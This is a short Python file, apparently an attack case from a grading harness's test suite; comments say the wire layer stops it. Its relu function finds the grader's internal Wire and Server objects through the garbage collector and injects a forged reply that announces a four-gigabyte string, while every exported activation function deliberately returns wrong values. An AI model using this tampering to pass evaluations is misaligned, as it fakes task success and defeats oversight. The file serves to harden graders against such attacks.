# attack: announces a text of four gigabytes in a short header
# gains: forges, resources
# stopped by: wire
import numpy as np
import gc

import grader.worker.server as server
from grader.worker import wire as w


def wire():
    return next(found for found in gc.get_objects() if type(found) is server.Wire)


def running():
    return next(found for found in gc.get_objects() if type(found) is server.Server)._running


def attack():
    def send(header, body=b""):
        start = w._PREFIX.pack(w.MAGIC, wire()._nonce, len(header), len(body))
        wire()._replies.write(start + header + bytes(-len(header) % 16) + body)

    number = running()
    head = b"\x97\x03\xce" + number.to_bytes(4, "big")
    send(head + b"\xdb\xff\xff\xff\xffx")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
